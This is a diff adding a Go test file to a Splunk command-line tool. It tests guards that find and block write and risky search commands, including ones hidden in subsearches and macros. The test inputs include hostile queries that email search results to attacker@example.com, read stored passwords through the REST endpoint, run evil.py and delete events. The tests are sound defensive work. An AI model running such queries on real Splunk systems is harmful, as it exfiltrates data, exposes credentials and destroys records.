@@ -0,0 +1,107 @@
+package main
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/kitproj/splunk-cli/pkg/splunk"
+	"github.com/kitproj/splunk-cli/pkg/splunk/splunktest"
+)
+
+func TestCollectCommand(t *testing.T) {
+	tests := []struct {
+		spec    string
+		want    string
+		wantErr bool
+	}{
+		{`index=summary`, `| collect index="summary"`, false},
+		{`index=summary marker="report=daily, team=\"ops\""`, `| collect index="summary" marker="report=daily, team=\"ops\""`, false},
+		{`marker=foo`, ``, true},
+		{`index=summary | delete`, ``, true},
+		{`index=summary marker="unterminated`, ``, true},
+	}
+
+	for _, tt := range tests {
+		got, err := collectCommand(tt.spec)
+		if (err != nil) != tt.wantErr {
+			t.Errorf("%s: expected error %v, got: %v", tt.spec, tt.wantErr, err)
+			continue
+		}
+		if got != tt.want {
+			t.Errorf("%s: expected %s, got: %s", tt.spec, tt.want, got)
+		}
+	}
+}
+
+func TestWriteCommands(t *testing.T) {
+	tests := map[string]string{
+		`search index=main | stats count`:                                       ``,
+		`search index=main collect`:                                             ``,
+		`search index=main | stats count | collect index=summary`:               `collect`,
+		`| inputlookup hosts.csv | OutputLookup hosts_copy.csv`:                 `outputlookup`,
+		`search index=main [| makeresults | sendemail to=a@example.com]`:        `sendemail`,
+		`search index=main | map search="search host=$host$ |delete" | collect`: `collect, delete`,
+		`search index=main | summaryindex index=summary`:                        `summaryindex`,
+		`search index=main | dump basefilename=events`:                          `dump`,
+	}
+	for query, want := range tests {
+		if got := strings.Join(writeCommands(query), ", "); got != want {
+			t.Errorf("%s: expected %q, got: %q", query, want, got)
+		}
+	}
+}
+
+func TestBlockedCommands(t *testing.T) {
+	tests := []struct {
+		query   string
+		allowed string
+		want    string
+	}{
+		{`search index=main | stats count by host`, ``, ``},
+		{`search index=main "| sendemail"`, ``, `sendemail`},
+		{`search index=main | head 10 | sendemail to=attacker@example.com sendresults=true`, ``, `sendemail`},
+		{`| rest /services/storage/passwords`, ``, `rest`},
+		{`search index=main [| Script evil.py] | map search="| dbxquery query=\"select 1\""`, ``, `dbxquery, script`},
+		{`| rest /services/server/info | sendemail to=ops@example.com`, `rest`, `sendemail`},
+		{`| rest /services/server/info`, `REST, sendemail`, ``},
+	}
+	for _, tt := range tests {
+		allowed, err := parseAllowedCommands(tt.allowed)
+		if err != nil {
+			t.Fatalf("%s: expected no error, got: %v", tt.allowed, err)
+		}
+		if got := strings.Join(blockedCommands(tt.query, allowed), ", "); got != tt.want {
+			t.Errorf("%s: expected %q blocked, got: %q", tt.query, tt.want, got)
+		}
+	}
+
+	if _, err := parseAllowedCommands("sendmail"); err == nil {
+		t.Error("Expected an error for a command that isn't blocked")
+	}
+}
+
+func TestRefuseSearchMacros(t *testing.T) {
+	parsed := 0
+	fake := &splunktest.Fake{
+		ParseSearchFunc: func(ctx context.Context, searchQuery string) (*splunk.ParsedSearch, error) {
+			parsed++
+			return &splunk.ParsedSearch{Commands: []splunk.ParsedCommand{
+				{Command: "search", RawArgs: "x"},
+				{Command: "outputlookup", RawArgs: "hosts.csv"},
+				{Command: "sendemail", RawArgs: "to=attacker@example.com"},
+			}}, nil
+		},
+	}
+	if refused := refuseSearch(context.Background(), fake, "search x | stats count", nil, true); refused != nil || parsed != 0 {
+		t.Errorf("Expected a query without macros to be allowed without parsing it, got: %v", refused)
+	}
+	refused := refuseSearch(context.Background(), fake, "search x | `m`", map[string]bool{"sendemail": true}, true)
+	if refused == nil || !strings.Contains(resultText(refused), "outputlookup") {
+		t.Errorf("Expected the command the macro expands to to be refused, got: %v", refused)
+	}
+	refused = refuseSearch(context.Background(), fake, "search x | `m`", nil, false)
+	if refused == nil || !strings.Contains(resultText(refused), "sendemail") {
+		t.Errorf("Expected the command the macro expands to to be blocked, got: %v", refused)
+	}
+}